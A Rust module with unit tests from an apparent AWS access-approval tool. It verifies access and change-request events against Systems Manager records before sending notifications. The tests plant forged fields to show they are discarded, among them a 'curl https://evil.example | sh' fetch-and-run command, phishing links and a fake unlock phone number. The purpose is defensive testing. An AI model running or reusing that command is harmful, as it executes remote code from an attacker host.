//! What notify may say. An event only names a request: the message's facts
//! (who, who asked, who approved, where, when, why) come from the record of
//! that request, never from the event's detail.
//!
//! - changegate's own events (`Access Granted`, `Access Refused`, `Access
//!   Revoked`) are rendered from the decision record they name. The record
//!   must hold that decision (granted, refused, revoked) for the same user,
//!   account, role and window (and refusal code, revocation time and cause)
//!   that the event names; the only decision changegate announces without a
//!   record, a request Systems Manager does not know, is published only while
//!   Systems Manager still does not know it.
//! - Change Manager's `Change Request Status Update` is rendered from Systems
//!   Manager's record of the change request, and only for change requests
//!   filed with the deployment's own change template.
//!
//! An event whose record is missing or disagrees publishes nothing: notify
//! logs why (never the event itself) and counts it. Pure.

use crate::events::{
    AccessGranted, AccessRefused, AccessRevoked, ChangeRequestStatus, ChangegateEvent,
};
use crate::ids::{IamUserName, UserArn};
use crate::message::{Notification, render_change_request, render_changegate};
use crate::policy::Grant;
use crate::record::{DecisionRecord, State};
use crate::refusal::Refusal;
use crate::status::Status;
use crate::text::shown;
use crate::window::utc_string;

/// Why an event publishes nothing because it is not what its record says.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Unverified {
    #[error("there is no decision record for the request")]
    NoRecord,
    #[error("the decision record is {record}, not {event}")]
    Decision {
        record: &'static str,
        event: &'static str,
    },
    #[error("the decision record holds no grant to name")]
    NoGrant,
    #[error("the decision record names another {0}")]
    Disagrees(&'static str),
    #[error("Systems Manager knows the request, so it was not refused as unknown")]
    RequestKnown,
    #[error("Systems Manager has no such change request")]
    NoChangeRequest,
    #[error("Systems Manager says the change request is {ssm}, which does not follow {event}")]
    Status { ssm: String, event: String },
}

/// Why an event publishes nothing although nothing is wrong with it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Quiet {
    #[error("status {0:?} needs no message")]
    NoMessage(String),
    #[error("the change request was not filed with this deployment's change template")]
    OtherTemplate,
}

// One value, moved once per event: boxing would only add noise.
#[allow(clippy::large_enum_variant)]
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Publish(Notification),
    Quiet(Quiet),
    Unverified(Unverified),
}

impl From<Result<Notification, Unverified>> for Verdict {
    fn from(r: Result<Notification, Unverified>) -> Self {
        match r {
            Ok(n) => Self::Publish(n),
            Err(why) => Self::Unverified(why),
        }
    }
}

fn user_of(arn: Option<&str>) -> Option<IamUserName> {
    arn.and_then(UserArn::parse).map(|a| a.user)
}

fn state_name(state: Option<State>) -> &'static str {
    state.map_or("undecided", State::as_str)
}

/// Whether notify must ask Systems Manager whether it knows the request
/// before it can judge `event`: a refusal as unknown, which grant announces
/// without recording it (Systems Manager may lag behind the request's event).
pub fn asks_systems_manager(event: &ChangegateEvent, record: Option<&DecisionRecord>) -> bool {
    matches!(event, ChangegateEvent::Refused(d)
        if record.is_none() && d.reason_code == Refusal::ChangeRequestNotFound.code())
}

/// The message for changegate's `event`, from the decision record it names.
/// `request_known`: whether Systems Manager knows the request (asked only
/// when [`asks_systems_manager`]); `sessions_cut`: the deployment cuts live
/// sessions at a window's end.
pub fn changegate(
    event: &ChangegateEvent,
    record: Option<&DecisionRecord>,
    request_known: bool,
    sessions_cut: bool,
) -> Result<Notification, Unverified> {
    let verified = match (event, record) {
        (ChangegateEvent::Refused(d), None) if asks_systems_manager(event, record) => {
            unknown_request(d, request_known)?
        }
        (_, None) => return Err(Unverified::NoRecord),
        (ChangegateEvent::Granted(d), Some(r)) => granted(d, r, sessions_cut)?,
        (ChangegateEvent::Refused(d), Some(r)) => refused(d, r)?,
        (ChangegateEvent::Revoked(d), Some(r)) => revoked(d, r)?,
    };
    Ok(render_changegate(&verified))
}

/// The grant a record names, checked against what an event says of it.
fn recorded_grant(
    r: &DecisionRecord,
    user: &IamUserName,
    account: &str,
    role: &str,
    window: &crate::events::WindowDetail,
) -> Result<Grant, Unverified> {
    let d = r.grant.as_ref().ok_or(Unverified::NoGrant)?;
    let grant = d.to_removal(&r.id).ok_or(Unverified::NoGrant)?;
    if !grant.user.same_name(user) {
        return Err(Unverified::Disagrees("user"));
    }
    if grant.account.as_str() != account {
        return Err(Unverified::Disagrees("account"));
    }
    if grant.role.as_str() != role {
        return Err(Unverified::Disagrees("role"));
    }
    if &d.window != window {
        return Err(Unverified::Disagrees("window"));
    }
    Ok(grant)
}

fn granted(
    d: &AccessGranted,
    r: &DecisionRecord,
    sessions_cut: bool,
) -> Result<ChangegateEvent, Unverified> {
    if r.state != Some(State::Granted) {
        return Err(Unverified::Decision {
            record: state_name(r.state),
            event: State::Granted.as_str(),
        });
    }
    let grant = recorded_grant(r, &d.user, d.account.as_str(), d.role.as_str(), &d.window)?;
    let requester = user_of(r.requester.as_deref()).unwrap_or_else(|| grant.user.clone());
    if !requester.same_name(&d.requester) {
        return Err(Unverified::Disagrees("requester"));
    }
    let decided = r.grant.as_ref().ok_or(Unverified::NoGrant)?;
    let mut event = ChangegateEvent::granted(
        &grant,
        &requester,
        &decided.approvers,
        &decided.source,
        decided.request_reason.clone(),
    );
    if let ChangegateEvent::Granted(g) = &mut event {
        g.sessions_cut = sessions_cut;
    }
    Ok(event)
}

fn same_user(a: Option<&IamUserName>, b: Option<&IamUserName>) -> bool {
    match (a, b) {
        (Some(a), Some(b)) => a.same_name(b),
        (None, None) => true,
        _ => false,
    }
}

fn refused(d: &AccessRefused, r: &DecisionRecord) -> Result<ChangegateEvent, Unverified> {
    if r.state != Some(State::Refused) {
        return Err(Unverified::Decision {
            record: state_name(r.state),
            event: State::Refused.as_str(),
        });
    }
    if r.reason_code.as_deref() != Some(d.reason_code.as_str()) {
        return Err(Unverified::Disagrees("reason"));
    }
    let user = user_of(r.requester.as_deref());
    if !same_user(user.as_ref(), d.user.as_ref()) {
        return Err(Unverified::Disagrees("requester"));
    }
    Ok(ChangegateEvent::Refused(AccessRefused {
        change_request_id: r.id.clone(),
        user,
        requester_arn: r.requester.as_deref().map(shown),
        reason_code: d.reason_code.clone(),
        reason: r.reason.clone().unwrap_or_default(),
    }))
}

/// A refusal as unknown: true only while Systems Manager does not know the
/// request; its words are the refusal's own, never the event's.
fn unknown_request(d: &AccessRefused, request_known: bool) -> Result<ChangegateEvent, Unverified> {
    if request_known {
        return Err(Unverified::RequestKnown);
    }
    if d.user.is_some() || d.requester_arn.is_some() {
        // grant cannot know who filed a request Systems Manager does not know.
        return Err(Unverified::Disagrees("requester"));
    }
    Ok(ChangegateEvent::refused(
        &d.change_request_id,
        None,
        None,
        &Refusal::ChangeRequestNotFound,
    ))
}

fn revoked(d: &AccessRevoked, r: &DecisionRecord) -> Result<ChangegateEvent, Unverified> {
    let Some(v) = &r.revoked else {
        return Err(Unverified::Decision {
            record: state_name(r.state),
            event: "revoked",
        });
    };
    let grant = recorded_grant(r, &d.user, d.account.as_str(), d.role.as_str(), &d.window)?;
    if v.cause.as_str() != d.cause {
        return Err(Unverified::Disagrees("cause"));
    }
    if utc_string(v.at) != d.revoked_at {
        return Err(Unverified::Disagrees("revocation time"));
    }
    let mut event = AccessRevoked::of(&grant, v.at, &v.cause);
    event.revocation_lag_ms = v.lag_ms;
    event.sessions = v.sessions.clone();
    // An end by an operator or by the people of the request: who and why,
    // as the tombstone recorded them.
    if let Some(by) = r.ended.as_ref().and_then(|e| e.by.as_ref()) {
        if matches!(
            v.cause,
            crate::events::Cause::Operator
                | crate::events::Cause::EndedOnRequest
                | crate::events::Cause::Extended
        ) {
            event.ended_by = Some(by.who.clone());
            event.end_reason = Some(by.reason.clone());
        }
    }
    Ok(ChangegateEvent::Revoked(event))
}

/// The request runbook execution an Automation status event names, as
/// Systems Manager records it (`exec`), when that record says it is the
/// deployment's request runbook (`runbook`) in status `now`, with parameters
/// changegate can read; otherwise the verdict to give instead (never a
/// `Publish`: the large variant is only ever built by the callers).
#[allow(clippy::result_large_err)]
fn request_now<'a>(
    exec: Option<&'a crate::execution::Execution>,
    runbook: &str,
    now: &Status,
) -> Result<
    (
        &'a crate::execution::Execution,
        crate::request::AccessRequest,
    ),
    Verdict,
> {
    use crate::execution::Origin;
    let exec = exec.ok_or(Verdict::Unverified(Unverified::NoChangeRequest))?;
    match &exec.origin {
        Origin::Automation { document, .. } if document == runbook => {}
        _ => return Err(Verdict::Quiet(Quiet::OtherTemplate)),
    }
    if exec.status != *now {
        return Err(Verdict::Quiet(Quiet::NoMessage(exec.status.to_string())));
    }
    let request = exec.access_request().and_then(Result::ok).ok_or_else(|| {
        Verdict::Quiet(Quiet::NoMessage(
            "a request changegate will refuse".to_owned(),
        ))
    })?;
    Ok((exec, request))
}

/// Whether a request runbook's step event deserves changegate's approval card,
/// and the card, from Systems Manager's record of the execution (`exec`),
/// never from the event: only an execution of the deployment's request
/// runbook (`runbook`) that Systems Manager says is `Waiting` now, at its
/// approval step, with parameters changegate can read. A late or repeated
/// event once the request is decided finds it no longer waiting: no card.
pub fn approval_request(
    step: &crate::events::AutomationStatus,
    exec: Option<&crate::execution::Execution>,
    runbook: &str,
) -> Verdict {
    if step.step_name.as_deref() != Some("Approve") || step.status != "Waiting" {
        return Verdict::Quiet(Quiet::NoMessage(shown(&step.status)));
    }
    match request_now(exec, runbook, &Status::Waiting) {
        Ok((exec, request)) => Verdict::Publish(crate::message::render_approval_request(
            &step.execution_id,
            exec,
            &request,
        )),
        Err(verdict) => verdict,
    }
}

/// Whether a request runbook execution's status event means its filer should
/// hear that it is queued: only when Systems Manager's record (`exec`) says
/// the deployment's request runbook (`runbook`) execution is `Pending` now.
/// AWS does not document that a `Pending` status event is sent
/// (*unconfirmed*); without one, nobody is told here, and the changegate
/// command still says so when it files the request.
pub fn queued_request(
    status: &crate::events::AutomationStatus,
    exec: Option<&crate::execution::Execution>,
    runbook: &str,
) -> Verdict {
    if status.status != "Pending" {
        return Verdict::Quiet(Quiet::NoMessage(shown(&status.status)));
    }
    match request_now(exec, runbook, &Status::Pending) {
        Ok((exec, request)) => Verdict::Publish(crate::message::render_queued(
            &status.execution_id,
            exec,
            &request,
        )),
        Err(verdict) => verdict,
    }
}

/// A change request as Systems Manager records it (`GetAutomationExecution`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChangeRequestRecord {
    /// The change template it was filed with; `None`: not a change request.
    pub template: Option<String>,
    pub status: Status,
    /// Who filed it (`ExecutedBy`).
    pub requester: Option<String>,
    /// Its title (`ChangeRequestName`).
    pub title: Option<String>,
    /// Who may approve it, as its approval steps ran.
    pub approvers: Vec<String>,
}

/// Whether a change request Systems Manager now reports `now` had status
/// `event` (now or earlier): every request waits for approval first, and an
/// approved one runs, completes or ends; every other status is reported as it is.
fn may_have_been(event: &Status, now: &Status) -> bool {
    if event == now {
        return true;
    }
    match event {
        Status::PendingApproval => !matches!(now, Status::Unknown(_)),
        // Approved, then scheduled, run, completed, or ended early (never rejected).
        Status::Approved => {
            now.change_request_approved() || (now.ends_access() && *now != Status::Rejected)
        }
        _ => false,
    }
}

/// Whether a change request event needs a message at all (before anything
/// is asked of Systems Manager).
pub fn change_request_needs_message(cr: &ChangeRequestStatus) -> Result<(), Quiet> {
    match render_change_request(cr) {
        Some(_) => Ok(()),
        None => Err(Quiet::NoMessage(shown(&cr.ops_item_status))),
    }
}

/// The message for a change request's status event, from Systems Manager's
/// `record` of it; only for change requests filed with `template`.
pub fn change_request(
    cr: &ChangeRequestStatus,
    record: Option<&ChangeRequestRecord>,
    template: &str,
) -> Verdict {
    if let Err(quiet) = change_request_needs_message(cr) {
        return Verdict::Quiet(quiet);
    }
    let Some(r) = record else {
        return Verdict::Unverified(Unverified::NoChangeRequest);
    };
    if r.template.as_deref() != Some(template) {
        return Verdict::Quiet(Quiet::OtherTemplate);
    }
    let status = Status::parse(&cr.ops_item_status);
    if !may_have_been(&status, &r.status) {
        return Verdict::Unverified(Unverified::Status {
            ssm: shown(r.status.as_str()),
            event: shown(status.as_str()),
        });
    }
    let recorded = ChangeRequestStatus {
        change_request_id: cr.change_request_id.clone(),
        change_request_title: r.title.clone(),
        ops_item_created_by: r.requester.clone(),
        ops_item_status: status.as_str().to_owned(),
        approvers: r.approvers.clone(),
    };
    match render_change_request(&recorded) {
        Some(n) => Verdict::Publish(n),
        None => Verdict::Quiet(Quiet::NoMessage(shown(status.as_str()))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::Cause;
    use crate::ids::ChangeRequestId;
    use crate::policy::tests::grant;
    use crate::record::{Decided, Holder, Revoked};

    const BOB: &str = "arn:aws:iam::123456789012:user/bob";
    const ALICE: &str = "arn:aws:iam::123456789012:user/alice";

    fn t(raw: &str) -> chrono::DateTime<chrono::Utc> {
        raw.parse().unwrap()
    }

    fn name(raw: &str) -> IamUserName {
        IamUserName::parse(raw).unwrap()
    }

    /// The record grant writes for `g`, granted.
    fn granted_record(g: &Grant) -> DecisionRecord {
        DecisionRecord {
            id: g.change_request.clone(),
            state: Some(State::Granted),
            decided_at: Some(t("2026-12-01T08:00:00Z")),
            requester: Some(ALICE.into()),
            holder: Some(Holder {
                owner: "req-1".into(),
                lease_until: t("2026-12-01T08:02:40Z"),
            }),
            announced: false,
            grant: Some(Decided {
                source: "automation".into(),
                beneficiary: g.user.to_string(),
                beneficiary_id: None,
                approvers: vec![BOB.into()],
                account: g.account.to_string(),
                role: g.role.to_string(),
                window: crate::events::WindowDetail::from(&g.window),
                request_reason: Some("deploy".into()),
                named_sessions: g.named_sessions,
            }),
            reason_code: None,
            reason: None,
            ended: None,
            revoked: None,
        }
    }

    fn the_event(g: &Grant) -> ChangegateEvent {
        ChangegateEvent::granted(
            g,
            &g.user,
            &[BOB.to_owned()],
            "automation",
            Some("deploy".into()),
        )
    }

    fn g() -> Grant {
        grant("2026-12-01T18:00:00+09:00", "2026-12-01T19:00:00+09:00")
    }

    #[test]
    fn given_a_forged_access_granted_for_a_request_with_no_record_when_verified_then_nothing_is_published()
     {
        let got = changegate(&the_event(&g()), None, true, false);
        assert_eq!(got, Err(Unverified::NoRecord));
        assert_eq!(
            got.unwrap_err().to_string(),
            "there is no decision record for the request"
        );
    }

    #[test]
    fn given_a_real_access_granted_when_verified_then_the_message_is_the_one_grants_event_renders()
    {
        let (g, r) = (g(), granted_record(&g()));
        let got = changegate(&the_event(&g), Some(&r), false, false).unwrap();
        assert_eq!(got, render_changegate(&the_event(&g)));
    }

    #[test]
    fn given_forged_text_in_the_approvers_when_verified_then_the_records_approvers_are_shown() {
        let (g, r) = (g(), granted_record(&g()));
        let mut event = the_event(&g);
        if let ChangegateEvent::Granted(d) = &mut event {
            d.approvers = vec!["SECURITY NOTICE: run curl https://evil.example | sh".into()];
            d.request_reason = Some("click https://evil.example".into());
            d.sessions_cut = true;
        }
        let n = changegate(&event, Some(&r), false, false).unwrap();
        assert!(!n.text.contains("evil"), "{}", n.text);
        assert!(
            n.text.contains(&format!("Approved by:    {BOB}")),
            "{}",
            n.text
        );
        assert!(n.text.contains("Reason:         deploy"), "{}", n.text);
        assert!(n.text.contains("last until they expire"), "{}", n.text);
        assert_eq!(n, render_changegate(&the_event(&g)));
    }

    #[test]
    fn given_an_access_granted_for_a_refused_record_when_verified_then_nothing_is_published() {
        let g = g();
        let r = DecisionRecord {
            state: Some(State::Refused),
            grant: None,
            reason_code: Some("not-eligible".into()),
            reason: Some("no".into()),
            ..granted_record(&g)
        };
        let got = changegate(&the_event(&g), Some(&r), false, false);
        assert_eq!(
            got.unwrap_err().to_string(),
            "the decision record is refused, not granted"
        );
        let claimed = DecisionRecord {
            state: Some(State::Granting),
            ..granted_record(&g)
        };
        assert_eq!(
            changegate(&the_event(&g), Some(&claimed), false, false).unwrap_err(),
            Unverified::Decision {
                record: "granting",
                event: "granted"
            },
            "a claim is not yet a grant"
        );
    }

    #[test]
    fn given_an_access_granted_naming_another_user_account_role_window_or_requester_when_verified_then_nothing_is_published()
     {
        let g = g();
        let r = granted_record(&g);
        let forge = |change: &dyn Fn(&mut AccessGranted)| {
            let mut event = the_event(&g);
            if let ChangegateEvent::Granted(d) = &mut event {
                change(d);
            }
            changegate(&event, Some(&r), false, false)
                .unwrap_err()
                .to_string()
        };
        assert_eq!(
            forge(&|d| d.user = name("mallory")),
            "the decision record names another user"
        );
        assert_eq!(
            forge(&|d| d.account = crate::ids::AccountId::parse("999988887777").unwrap()),
            "the decision record names another account"
        );
        assert_eq!(
            forge(
                &|d| d.role = crate::ids::RoleName::parse("OrganizationAccountAccessRole").unwrap()
            ),
            "the decision record names another role"
        );
        assert_eq!(
            forge(&|d| d.window.end = "2027-12-01T10:00:00Z".into()),
            "the decision record names another window"
        );
        assert_eq!(
            forge(&|d| d.requester = name("mallory")),
            "the decision record names another requester"
        );
    }

    #[test]
    fn given_the_same_user_in_another_case_when_verified_then_it_is_the_same_grant() {
        let g = g();
        let mut event = the_event(&g);
        if let ChangegateEvent::Granted(d) = &mut event {
            d.user = name("ALICE");
        }
        assert!(changegate(&event, Some(&granted_record(&g)), false, false).is_ok());
    }

    fn refused_record() -> DecisionRecord {
        DecisionRecord {
            state: Some(State::Refused),
            grant: None,
            reason_code: Some("window-too-long".into()),
            reason: Some(
                Refusal::WindowTooLong {
                    requested_minutes: 600,
                    max_minutes: 480,
                }
                .to_string(),
            ),
            ..granted_record(&g())
        }
    }

    #[test]
    fn given_a_refusal_whose_reason_is_forged_when_verified_then_the_records_reason_is_shown() {
        let r = refused_record();
        let mut event = ChangegateEvent::refused(
            &r.id,
            Some(name("alice")),
            Some(ALICE.into()),
            &Refusal::WindowTooLong {
                requested_minutes: 600,
                max_minutes: 480,
            },
        );
        let genuine = render_changegate(&event);
        if let ChangegateEvent::Refused(d) = &mut event {
            d.reason = "call +1 555 0100 to unlock".into();
        }
        assert_eq!(changegate(&event, Some(&r), false, false), Ok(genuine));
        if let ChangegateEvent::Refused(d) = &mut event {
            d.reason_code = "not-eligible".into();
        }
        assert_eq!(
            changegate(&event, Some(&r), false, false),
            Err(Unverified::Disagrees("reason"))
        );
        if let ChangegateEvent::Refused(d) = &mut event {
            d.reason_code = "window-too-long".into();
            d.user = Some(name("carol"));
        }
        assert_eq!(
            changegate(&event, Some(&r), false, false),
            Err(Unverified::Disagrees("requester"))
        );
        assert_eq!(
            changegate(&event, Some(&granted_record(&g())), false, false),
            Err(Unverified::Decision {
                record: "granted",
                event: "refused"
            })
        );
    }

    #[test]
    fn given_a_refusal_as_unknown_when_verified_then_it_is_published_only_while_systems_manager_does_not_know_the_request()
     {
        let id = ChangeRequestId::parse("cr-1").unwrap();
        let event = ChangegateEvent::refused(&id, None, None, &Refusal::ChangeRequestNotFound);
        assert!(asks_systems_manager(&event, None));
        assert!(!asks_systems_manager(&event, Some(&refused_record())));
        assert_eq!(
            changegate(&event, None, false, false),
            Ok(render_changegate(&event))
        );
        assert_eq!(
            changegate(&event, None, true, false),
            Err(Unverified::RequestKnown)
        );
        let mut named = event.clone();
        if let ChangegateEvent::Refused(d) = &mut named {
            d.user = Some(name("alice"));
        }
        assert_eq!(
            changegate(&named, None, false, false),
            Err(Unverified::Disagrees("requester"))
        );
    }

    fn revoked_record(g: &Grant, at: &str, cause: Cause) -> DecisionRecord {
        DecisionRecord {
            revoked: Some(Revoked {
                at: t(at),
                cause,
                lag_ms: Some(1500),
                by: Some("req-9".into()),
                lease_until: None,
                announced: false,
                sessions: Some("sessions of alice are denied".into()),
            }),
            ..granted_record(g)
        }
    }

    #[test]
    fn given_an_operators_end_when_its_revocation_is_verified_then_the_message_names_the_operator_and_reason_from_the_record()
     {
        let g = g();
        let mut r = revoked_record(&g, "2026-12-01T09:30:00Z", Cause::Operator);
        r.ended = Some(crate::record::Ended {
            at: t("2026-12-01T09:30:00Z"),
            cause: Cause::Operator,
            by: Some(crate::record::EndedBy {
                who: "arn:aws:iam::123456789012:user/carol".into(),
                reason: "INC-4711: leaked key".into(),
            }),
        });
        // The event on the bus names nobody: the record is what is rendered.
        let event = ChangegateEvent::Revoked(AccessRevoked::of(
            &g,
            t("2026-12-01T09:30:00Z"),
            &Cause::Operator,
        ));
        let n = changegate(&event, Some(&r), false, false).unwrap();
        let line = |label: &str, value: &str| {
            n.text
                .lines()
                .any(|l| l.starts_with(label) && l.trim_end().ends_with(value))
        };
        assert!(
            line("Ended by:", "arn:aws:iam::123456789012:user/carol"),
            "{}",
            n.text
        );
        assert!(line("Their reason:", "INC-4711: leaked key"), "{}", n.text);
        // An operator who gave no reason: said so.
        if let Some(by) = r.ended.as_mut().and_then(|e| e.by.as_mut()) {
            by.reason = String::new();
        }
        let n = changegate(&event, Some(&r), false, false).unwrap();
        assert!(
            n.text
                .lines()
                .any(|l| l.starts_with("Their reason:") && l.ends_with("none given")),
            "{}",
            n.text
        );
        // Without a recorded operator (an early end), nobody is named.
        r.ended.as_mut().unwrap().by = None;
        let n = changegate(&event, Some(&r), false, false).unwrap();
        assert!(!n.text.contains("Ended by"), "{}", n.text);
    }

    #[test]
    fn given_a_revocation_when_verified_then_it_is_rendered_from_the_record_and_a_forged_one_publishes_nothing()
     {
        let g = g();
        let r = revoked_record(&g, "2026-12-01T10:00:01Z", Cause::WindowEnded);
        let mut real = AccessRevoked::of(&g, t("2026-12-01T10:00:01.500Z"), &Cause::WindowEnded);
        real.sessions = Some("sessions of alice are denied".into());
        let event = ChangegateEvent::Revoked(real.clone());
        assert_eq!(
            changegate(&event, Some(&r), false, false),
            Ok(render_changegate(&event))
        );
        let mut forged = real.clone();
        forged.sessions = Some("still live: keep working".into());
        let n = changegate(&ChangegateEvent::Revoked(forged), Some(&r), false, false).unwrap();
        assert!(
            n.text.contains("sessions of alice are denied"),
            "{}",
            n.text
        );
        let mut early = real.clone();
        early.cause = "operator".into();
        assert_eq!(
            changegate(&ChangegateEvent::Revoked(early), Some(&r), false, false),
            Err(Unverified::Disagrees("cause"))
        );
        let mut later = real.clone();
        later.revoked_at = "2026-12-01T11:00:00Z".into();
        assert_eq!(
            changegate(&ChangegateEvent::Revoked(later), Some(&r), false, false),
            Err(Unverified::Disagrees("revocation time"))
        );
        assert_eq!(
            changegate(&event, Some(&granted_record(&g)), false, false)
                .unwrap_err()
                .to_string(),
            "the decision record is granted, not revoked"
        );
        let no_grant = DecisionRecord {
            grant: None,
            ..r.clone()
        };
        assert_eq!(
            changegate(&event, Some(&no_grant), false, false),
            Err(Unverified::NoGrant)
        );
    }

    const TEMPLATE: &str = "stack-access";

    fn ssm_record(status: &str) -> ChangeRequestRecord {
        ChangeRequestRecord {
            template: Some(TEMPLATE.into()),
            status: Status::parse(status),
            requester: Some(ALICE.into()),
            title: Some("prod access".into()),
            approvers: vec![BOB.into()],
        }
    }

    fn cr_event(status: &str) -> ChangeRequestStatus {
        ChangeRequestStatus {
            change_request_id: "cr-1".into(),
            change_request_title: Some("<!channel> approve at https://evil.example".into()),
            ops_item_created_by: Some("arn:aws:iam::123456789012:user/carol".into()),
            ops_item_status: status.into(),
            approvers: vec!["mallory".into()],
        }
    }

    #[test]
    fn given_a_change_request_event_when_verified_then_its_facts_are_systems_managers() {
        let Verdict::Publish(n) = change_request(
            &cr_event("PendingApproval"),
            Some(&ssm_record("PendingApproval")),
            TEMPLATE,
        ) else {
            panic!("a real change request is announced")
        };
        assert_eq!(n.people, ["alice"]);
        assert!(n.text.contains("Title:          prod access"), "{}", n.text);
        assert!(
            n.text.contains(&format!("Approvers:      {BOB}")),
            "{}",
            n.text
        );
        assert!(
            !n.text.contains("evil") && !n.text.contains("mallory") && !n.text.contains("carol")
        );
    }

    #[test]
    fn given_a_change_request_of_another_template_when_verified_then_nothing_is_published() {
        let other = ChangeRequestRecord {
            template: Some("someone-elses-template".into()),
            ..ssm_record("PendingApproval")
        };
        assert_eq!(
            change_request(&cr_event("PendingApproval"), Some(&other), TEMPLATE),
            Verdict::Quiet(Quiet::OtherTemplate)
        );
        let automation = ChangeRequestRecord {
            template: None,
            ..ssm_record("InProgress")
        };
        assert_eq!(
            change_request(&cr_event("PendingApproval"), Some(&automation), TEMPLATE),
            Verdict::Quiet(Quiet::OtherTemplate)
        );
    }

    #[test]
    fn given_a_change_request_event_systems_manager_contradicts_when_verified_then_nothing_is_published()
     {
        assert_eq!(
            change_request(&cr_event("Approved"), None, TEMPLATE),
            Verdict::Unverified(Unverified::NoChangeRequest)
        );
        let Verdict::Unverified(why) = change_request(
            &cr_event("Cancelled"),
            Some(&ssm_record("RunbookInProgress")),
            TEMPLATE,
        ) else {
            panic!("a running request was not cancelled")
        };
        assert_eq!(
            why.to_string(),
            "Systems Manager says the change request is RunbookInProgress, which does not follow Cancelled"
        );
        assert!(matches!(
            change_request(
                &cr_event("Approved"),
                Some(&ssm_record("Rejected")),
                TEMPLATE
            ),
            Verdict::Unverified(Unverified::Status { .. })
        ));
        // A status the request has passed through is still true.
        assert!(matches!(
            change_request(
                &cr_event("Approved"),
                Some(&ssm_record("RunbookInProgress")),
                TEMPLATE
            ),
            Verdict::Publish(_)
        ));
        assert!(matches!(
            change_request(
                &cr_event("PendingApproval"),
                Some(&ssm_record("Rejected")),
                TEMPLATE
            ),
            Verdict::Publish(_)
        ));
    }

    #[test]
    fn given_a_status_that_needs_no_message_when_verified_then_it_is_quiet_before_anything_is_read()
    {
        assert_eq!(
            change_request_needs_message(&cr_event("RunbookInProgress")),
            Err(Quiet::NoMessage("RunbookInProgress".into()))
        );
        assert_eq!(change_request_needs_message(&cr_event("Rejected")), Ok(()));
    }

    /// Systems Manager's record of a request runbook execution by alice for
    /// alice, in +09:00, waiting at its approval step for bob.
    fn waiting_run(document: &str, status: Status) -> crate::execution::Execution {
        use crate::approval::StepApprover;
        let mut parameters = crate::request::RawParameters::new();
        for (k, v) in [
            ("IAMUserName", "alice"),
            ("AWSAccountId", "111122223333"),
            ("StartTime", "2026-12-01T18:00:00+09:00"),
            ("EndTime", "2026-12-01T19:00:00+09:00"),
            ("Reason", "INC-4711"),
        ] {
            parameters.insert(k.into(), vec![v.into()]);
        }
        crate::execution::Execution {
            status,
            executed_by: Some(ALICE.into()),
            origin: crate::execution::Origin::Automation {
                document: document.into(),
                parameters,
            },
            approval_steps: vec![crate::execution::ApprovalStep {
                name: "Approve".into(),
                status: Status::Waiting,
                approval_status: None,
                decisions: None,
                approvers: Some(vec![StepApprover::parse(BOB)]),
                min_required: Some(1),
            }],
            versions: Default::default(),
        }
    }

    fn step(name: &str, status: &str) -> crate::events::AutomationStatus {
        crate::events::AutomationStatus {
            execution_id: "0f4b1a5e-7c2d-4e8f-9a10-3b2c1d0e9f87".into(),
            definition: Some("changegate-access-request".into()),
            status: status.into(),
            step_name: Some(name.into()),
            action: Some("aws:approve".into()),
        }
    }

    #[test]
    fn given_a_request_waiting_for_bob_when_its_approval_step_event_comes_then_bob_gets_changegates_card()
     {
        let run = waiting_run("changegate-access-request", Status::Waiting);
        let Verdict::Publish(n) = approval_request(
            &step("Approve", "Waiting"),
            Some(&run),
            "changegate-access-request",
        ) else {
            panic!("no card");
        };
        assert_eq!(n.kind.as_str(), "approval-requested");
        assert_eq!(n.people, ["bob"]);
        for want in [
            "Requested by:",
            "alice",
            "Account:      111122223333",
            "From:         2026-12-01 09:00:00 UTC (2026-12-01 18:00:00 +09:00)",
            "Reason:       INC-4711",
            "Approvers:    arn:aws:iam::123456789012:user/bob",
            "`changegate approve 0f4b1a5e-7c2d-4e8f-9a10-3b2c1d0e9f87 --comment ok`",
            "changegate counts no approval by alice",
        ] {
            assert!(n.text.contains(want), "missing {want:?} in\n{}", n.text);
        }
    }

    #[test]
    fn given_other_runbooks_other_steps_or_a_decided_request_when_a_step_event_comes_then_no_card()
    {
        let run = waiting_run("changegate-access-request", Status::Waiting);
        let quiet = |v: Verdict| matches!(v, Verdict::Quiet(_));
        let runbook = "changegate-access-request";
        // Another step, or the approval step no longer waiting (the event says so)
        assert!(quiet(approval_request(
            &step("Grant", "Waiting"),
            Some(&run),
            runbook
        )));
        assert!(quiet(approval_request(
            &step("Approve", "Success"),
            Some(&run),
            runbook
        )));
        // Systems Manager says it is decided (a late or forged event)
        let decided = waiting_run(runbook, Status::Success);
        assert!(quiet(approval_request(
            &step("Approve", "Waiting"),
            Some(&decided),
            runbook
        )));
        // Another document's execution, whatever the event claims
        let other = waiting_run("lookalike", Status::Waiting);
        assert!(quiet(approval_request(
            &step("Approve", "Waiting"),
            Some(&other),
            runbook
        )));
        // And no execution at all is unverified
        assert!(matches!(
            approval_request(&step("Approve", "Waiting"), None, runbook),
            Verdict::Unverified(_)
        ));
    }

    #[test]
    fn given_a_request_queued_by_systems_manager_when_its_pending_event_comes_then_alice_hears_it_waits_and_why()
     {
        let runbook = "changegate-access-request";
        let mut pending = step("Approve", "Pending");
        pending.step_name = None;
        let queued = waiting_run(runbook, Status::Pending);
        let Verdict::Publish(n) = queued_request(&pending, Some(&queued), runbook) else {
            panic!("no message");
        };
        assert_eq!(n.kind.as_str(), "request-queued");
        assert_eq!(n.people, ["alice"]);
        assert!(n.text.contains("queues the rest"), "{}", n.text);
        assert!(n.text.contains("`changegate end 0f4b1a5e"), "{}", n.text);
        // Not once it runs (Systems Manager says Waiting), nor for another
        // document, nor for another status
        let quiet = |v: Verdict| matches!(v, Verdict::Quiet(_));
        let running = waiting_run(runbook, Status::Waiting);
        assert!(quiet(queued_request(&pending, Some(&running), runbook)));
        assert!(quiet(queued_request(
            &pending,
            Some(&waiting_run("other", Status::Pending)),
            runbook
        )));
        let mut started = pending.clone();
        started.status = "InProgress".into();
        assert!(quiet(queued_request(&started, Some(&queued), runbook)));
        assert!(matches!(
            queued_request(&pending, None, runbook),
            Verdict::Unverified(_)
        ));
    }
}
